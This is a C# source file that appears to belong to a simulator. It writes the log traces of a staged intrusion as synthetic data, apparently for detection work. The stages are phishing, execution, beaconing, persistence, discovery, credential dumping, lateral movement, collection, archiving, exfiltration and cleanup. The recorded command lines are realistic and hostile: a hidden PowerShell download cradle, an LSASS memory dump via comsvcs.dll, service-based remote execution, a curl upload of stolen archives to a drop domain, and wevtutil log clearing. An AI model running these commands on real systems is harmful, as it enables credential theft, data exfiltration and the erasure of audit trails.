using System.Text;
using Harrier.Simulation.Enterprise;
using Harrier.Simulation.Recording;

namespace Harrier.Simulation.Intrusions;

/// <summary>Plays the stages of an intrusion: what each leaves in the logs.</summary>
public sealed class Stages(
    Recorder recorder,
    OrdinaryLife life,
    Scenario scenario,
    DateTime firstDay,
    int days
)
{
    const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    const string Lsass = @"C:\Windows\System32\lsass.exe";

    SimulatedProcess? _implant;

    Company Company => recorder.Company;

    Random Random => recorder.Random;

    /// <summary>Who opens the attachment: the second of the department.</summary>
    public Person Victim { get; } =
        recorder.Company.Of(scenario["department"]).Skip(1).FirstOrDefault()
        ?? recorder.Company.Of(scenario["department"]).First();

    string User => $@"{Company.NetBios}\{Victim.Account}";

    /// <summary>The victim's own session of the first day: what the implant does, it does in it.</summary>
    string Session => life.SessionOf(Victim.Account);

    string StolenAccount => Company.Admin.Account + "-adm";

    public void Play()
    {
        foreach (var stage in scenario.Stages)
        {
            recorder.Stage = stage.Id;
            // In a shorter simulation the last days' stages move to its last day, in order.
            var time = firstDay
                .AddDays(Math.Min(stage.Day, days - 1))
                .Add(stage.At)
                .AddSeconds(Random.Next(40));
            Play(stage.Id, time);
        }

        recorder.Stage = null;
    }

    void Play(string id, DateTime time)
    {
        switch (id)
        {
            case "phish":
                Phish(time);
                break;
            case "execution":
                Execute(time);
                break;
            case "control":
                Control(time);
                break;
            case "persistence":
                Persist(time);
                break;
            case "discovery":
                Discover(time);
                break;
            case "credentials":
                DumpCredentials(time);
                break;
            case "lateral":
                MoveLaterally(time);
                break;
            case "collection":
                Collect(time);
                break;
            case "archive":
                Archive(time);
                break;
            case "exfiltration":
                Exfiltrate(time);
                break;
            case "cleanup":
                CleanUp(time);
                break;
            default:
                throw new Harrier.Schema.HarrierFault(
                    Harrier.Schema.FaultKind.Usage,
                    $"Scenario '{scenario.Id}' has a stage '{id}' that the simulator can't play."
                );
        }
    }

    void Phish(DateTime time)
    {
        foreach (var person in Company.Of(scenario["department"]).Take(5))
        {
            life.Deliver(
                time,
                scenario["sender"],
                [person.Mail],
                scenario["subject"],
                scenario["staging_address"],
                148_220,
                scenario["attachment"]
            );
            time = time.AddSeconds(20 + Random.Next(70));
        }
    }

    void Execute(DateTime time)
    {
        var machine = Victim.Workstation;
        var word = recorder.Start(
            machine,
            time,
            @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            $"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{Victim.Account}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8QX2K1\\{scenario["attachment"]}\"",
            User,
            null,
            @"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            logonId: Session
        );
        var cradle =
            $"IEX (New-Object Net.WebClient).DownloadString('http://{scenario["staging_domain"]}/u.ps1')";
        var shell = recorder.Start(
            machine,
            time.AddSeconds(9),
            PowerShell,
            $"powershell.exe -nop -w hidden -enc {Convert.ToBase64String(Encoding.Unicode.GetBytes(cradle))}",
            User,
            word,
            logonId: Session
        );
        recorder.ScriptBlock(machine, time.AddSeconds(10), shell.Pid, cradle);
        recorder.Lookup(
            machine,
            time.AddSeconds(11),
            scenario["staging_domain"],
            scenario["staging_address"],
            shell
        );
        recorder.Connection(
            machine,
            time.AddSeconds(11.2),
            scenario["staging_address"],
            80,
            240,
            61_440,
            TimeSpan.FromSeconds(1.1),
            shell,
            http: new HttpRequest(
                "GET",
                scenario["staging_domain"],
                "/u.ps1",
                "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1",
                "text/plain"
            )
        );
        recorder.FileCreated(
            shell,
            time.AddSeconds(14),
            $@"C:\Users\{Victim.Account}\AppData\Roaming\wct\wct.exe"
        );
        _implant = recorder.Start(
            machine,
            time.AddSeconds(20),
            $@"C:\Users\{Victim.Account}\AppData\Roaming\wct\wct.exe",
            "wct.exe",
            User,
            shell,
            logonId: Session
        );
    }

    void Control(DateTime time)
    {
        var end = firstDay.AddDays(days).AddHours(-1);
        for (var beat = 0; time < end; beat++)
        {
            if (beat % 40 == 0)
            {
                recorder.Lookup(
                    Victim.Workstation,
                    time.AddMilliseconds(-80),
                    scenario["control_domain"],
                    scenario["control_address"],
                    _implant
                );
            }

            recorder.Connection(
                Victim.Workstation,
                time,
                scenario["control_address"],
                443,
                690 + Random.Next(30),
                410 + Random.Next(25),
                TimeSpan.FromSeconds(0.4 + Random.NextDouble() / 4),
                beat % 12 == 0 ? _implant : null,
                scenario["control_domain"]
            );
            // Five minutes, jittered by 15 %; a beat is missed now and then.
            time = time.AddSeconds(
                300 * (0.85 + 0.3 * Random.NextDouble()) * (Random.Next(30) == 0 ? 2 : 1)
            );
        }
    }

    void Persist(DateTime time)
    {
        recorder.Start(
            Victim.Workstation,
            time,
            @"C:\Windows\System32\schtasks.exe",
            $@"schtasks /create /tn {scenario["task"]} /tr ""powershell -w hidden -c iex(gc $env:APPDATA\wct\r.txt -raw)"" /sc onlogon /f",
            User,
            _implant,
            logonId: Session
        );
        recorder.TaskCreated(
            Victim.Workstation,
            time.AddSeconds(1),
            Victim.Account,
            Session,
            scenario["task"],
            "powershell",
            @"-w hidden -c iex(gc $env:APPDATA\wct\r.txt -raw)"
        );
    }

    void Discover(DateTime time)
    {
        string[] commands =
        [
            "whoami /all",
            "net group \"Domain Admins\" /domain",
            "net user /domain",
            "nltest /dclist:" + Company.Domain,
            "net view /all",
            "quser",
        ];
        var cmd = recorder.Start(
            Victim.Workstation,
            time,
            @"C:\Windows\System32\cmd.exe",
            "cmd.exe",
            User,
            _implant,
            logonId: Session
        );
        foreach (var command in commands)
        {
            time = time.AddSeconds(9 + Random.Next(50));
            recorder.Start(
                Victim.Workstation,
                time,
                $@"C:\Windows\System32\{command.Split(' ')[0]}.exe",
                command,
                User,
                cmd,
                logonId: Session
            );
        }
    }

    void DumpCredentials(DateTime time)
    {
        var machine = Victim.Workstation;
        var dump = recorder.Start(
            machine,
            time,
            @"C:\Windows\System32\rundll32.exe",
            @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 668 C:\ProgramData\wct\l.bin full",
            User,
            _implant,
            logonId: Session,
            integrity: "High"
        );
        recorder.Opened(
            dump,
            time.AddSeconds(1),
            Lsass,
            "0x1fffff",
            @"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\dbgcore.DLL+6cde|C:\Windows\System32\comsvcs.dll+2faa2"
        );
        recorder.FileCreated(dump, time.AddSeconds(2), @"C:\ProgramData\wct\l.bin");
    }

    void MoveLaterally(DateTime time)
    {
        var from = Victim.Workstation;
        var server = Company.FileServer;
        recorder.ExplicitCredentials(
            from,
            time,
            Victim.Account,
            StolenAccount,
            server.Fqdn,
            _implant?.Image ?? "-"
        );
        var logon = recorder.Logon(
            server,
            time.AddSeconds(1),
            StolenAccount,
            3,
            from,
            "NTLM",
            admin: true
        );
        recorder.Connection(
            from,
            time.AddSeconds(1),
            server.Address,
            445,
            240_000,
            31_000,
            TimeSpan.FromSeconds(80),
            service: "smb"
        );
        recorder.ShareConnected(server, time.AddSeconds(2), StolenAccount, from, "ADMIN$");
        recorder.ServiceInstalled(
            server,
            time.AddSeconds(6),
            StolenAccount,
            logon,
            scenario["service"],
            @"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\Windows\Temp\o 2^>^&1 > C:\Windows\Temp\x.bat & C:\Windows\Temp\x.bat"
        );
        var services = recorder.Start(
            server,
            time.AddSeconds(7),
            @"C:\Windows\System32\cmd.exe",
            @"C:\Windows\system32\cmd.exe /Q /c C:\Windows\Temp\x.bat",
            @"NT AUTHORITY\SYSTEM",
            null,
            @"C:\Windows\System32\services.exe",
            integrity: "System"
        );
        recorder.Start(
            server,
            time.AddSeconds(30),
            @"C:\Windows\System32\net.exe",
            "net share",
            @"NT AUTHORITY\SYSTEM",
            services,
            integrity: "System"
        );
    }

    void Collect(DateTime time)
    {
        recorder.ShareConnected(
            Company.FileServer,
            time,
            Victim.Account,
            Victim.Workstation,
            "Finance"
        );
        for (var file = 0; file < 260; file++)
        {
            recorder.ShareRead(
                Company.FileServer,
                time,
                Victim.Account,
                Victim.Workstation,
                "Finance",
                $@"2024\contracts\{2000 + file}.pdf"
            );
            time = time.AddSeconds(2 + Random.NextDouble() * 8);
        }

        recorder.Connection(
            Victim.Workstation,
            time.AddMinutes(-20),
            Company.FileServer.Address,
            445,
            900_000,
            610_000_000,
            TimeSpan.FromMinutes(22),
            service: "smb"
        );
    }

    void Archive(DateTime time)
    {
        var rar = recorder.Start(
            Victim.Workstation,
            time,
            @"C:\ProgramData\wct\rar.exe",
            @"rar.exe a -r -m5 -v100m -hpS1lver!Tide C:\ProgramData\wct\f.rar C:\ProgramData\wct\stage\",
            User,
            _implant,
            logonId: Session
        );
        for (var part = 1; part <= 5; part++)
        {
            recorder.FileCreated(
                rar,
                time.AddSeconds(part * 40),
                $@"C:\ProgramData\wct\f.part{part}.rar"
            );
        }
    }

    void Exfiltrate(DateTime time)
    {
        var curl = recorder.Start(
            Victim.Workstation,
            time,
            @"C:\Windows\System32\curl.exe",
            $"curl.exe -s -T C:\\ProgramData\\wct\\f.part1.rar https://{scenario["drop_domain"]}/u/7c1e",
            User,
            _implant,
            logonId: Session
        );
        recorder.Lookup(
            Victim.Workstation,
            time.AddSeconds(1),
            scenario["drop_domain"],
            scenario["drop_address"],
            curl
        );
        for (var part = 0; part < 5; part++)
        {
            recorder.Connection(
                Victim.Workstation,
                time.AddSeconds(2 + part * 190),
                scenario["drop_address"],
                443,
                98_000_000 + Random.Next(4_000_000),
                21_000,
                TimeSpan.FromSeconds(170),
                part == 0 ? curl : null,
                scenario["drop_domain"]
            );
        }
    }

    void CleanUp(DateTime time)
    {
        recorder.Start(
            Victim.Workstation,
            time,
            @"C:\Windows\System32\wevtutil.exe",
            "wevtutil cl Security",
            User,
            _implant,
            logonId: Session,
            integrity: "High"
        );
        recorder.LogCleared(Victim.Workstation, time.AddSeconds(1), Victim.Account);
    }
}
